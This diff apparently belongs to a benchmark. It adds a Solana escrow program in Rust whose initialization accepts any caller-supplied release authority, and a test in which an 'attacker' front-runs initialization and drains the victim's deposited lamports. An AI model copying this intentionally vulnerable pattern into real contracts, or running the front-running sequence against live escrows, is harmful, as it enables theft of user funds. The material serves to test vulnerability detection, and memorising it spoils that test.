@@ -0,0 +1,117 @@
+use solana_program::{
+    account_info::{next_account_info, AccountInfo},
+    entrypoint,
+    entrypoint::ProgramResult,
+    msg,
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+
+/// 托管账户：创建时预存 lamports，初始化后由放款权限提走
+#[repr(C)]
+struct Escrow {
+    authority: Pubkey,
+}
+
+#[cfg(not(feature = "no-entrypoint"))]
+entrypoint!(process_instruction);
+
+pub fn process_instruction(
+    program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    instruction_data: &[u8],
+) -> ProgramResult {
+    let accounts_iter = &mut accounts.iter();
+    let escrow_account = next_account_info(accounts_iter)?;
+    let signer = next_account_info(accounts_iter)?;
+
+    if escrow_account.owner != program_id {
+        return Err(ProgramError::IncorrectProgramId);
+    }
+    if !signer.is_signer {
+        return Err(ProgramError::MissingRequiredSignature);
+    }
+
+    match instruction_data[0] {
+        0 => {
+            if escrow_account.data_len() != 0 {
+                return Err(ProgramError::AccountAlreadyInitialized);
+            }
+            // 放款权限直接取自指令数据
+            let escrow = Escrow {
+                authority: Pubkey::new_from_array(instruction_data[1..33].try_into().unwrap()),
+            };
+            escrow_account.realloc(std::mem::size_of::<Escrow>(), false)?;
+            let mut data = escrow_account.data.borrow_mut();
+            unsafe { std::ptr::write_unaligned(data.as_mut_ptr() as *mut Escrow, escrow) };
+            msg!("Escrow initialized");
+        }
+        1 => {
+            if escrow_account.data_len() == 0 {
+                return Err(ProgramError::UninitializedAccount);
+            }
+            let amount = u64::from_le_bytes(instruction_data[1..9].try_into().unwrap());
+            let escrow = unsafe {
+                std::ptr::read_unaligned(escrow_account.data.borrow().as_ptr() as *const Escrow)
+            };
+            if escrow.authority != *signer.key {
+                return Err(ProgramError::InvalidAccountData);
+            }
+            **escrow_account.try_borrow_mut_lamports()? -= amount;
+            **signer.try_borrow_mut_lamports()? += amount;
+            msg!("Released {}", amount);
+        }
+        _ => return Err(ProgramError::InvalidInstructionData),
+    }
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use solana_program::{program_error::ProgramError, pubkey::Pubkey, system_program};
+    use solracebench_testkit::{name_key, Env, TestAccount};
+
+    #[test]
+    fn initialize_then_release() {
+        let program_id = Pubkey::new_unique();
+        let env = Env::new(program_id);
+        let mut escrow = TestAccount::new(name_key("escrow"), program_id).with_lamports(11_000_000);
+        let mut victim = TestAccount::new(name_key("victim"), system_program::ID)
+            .with_lamports(1_000_000)
+            .signer();
+        let mut attacker = TestAccount::new(name_key("attacker"), system_program::ID)
+            .with_lamports(1_000_000)
+            .signer();
+
+        // attacker 抢先初始化，放款权限写成自己
+        env.call_with(
+            super::process_instruction,
+            &mut [&mut escrow, &mut attacker],
+            &[&[0][..], &name_key("attacker").to_bytes()].concat(),
+        )
+        .assert_ok();
+
+        // victim 初始化，放款权限写成自己
+        env.call_with(
+            super::process_instruction,
+            &mut [&mut escrow, &mut victim],
+            &[&[0][..], &name_key("victim").to_bytes()].concat(),
+        )
+        .assert_err(ProgramError::AccountAlreadyInitialized);
+
+        // attacker 放款给自己
+        env.call_with(
+            super::process_instruction,
+            &mut [&mut escrow, &mut attacker],
+            &[&[1][..], &10_000_000u64.to_le_bytes()].concat(),
+        )
+        .assert_ok();
+
+        let state =
+            unsafe { std::ptr::read_unaligned(escrow.data().as_ptr() as *const super::Escrow) };
+        assert_eq!(state.authority, name_key("attacker"));
+        escrow.assert_lamports(1_000_000);
+        attacker.assert_lamports(11_000_000);
+    }
+}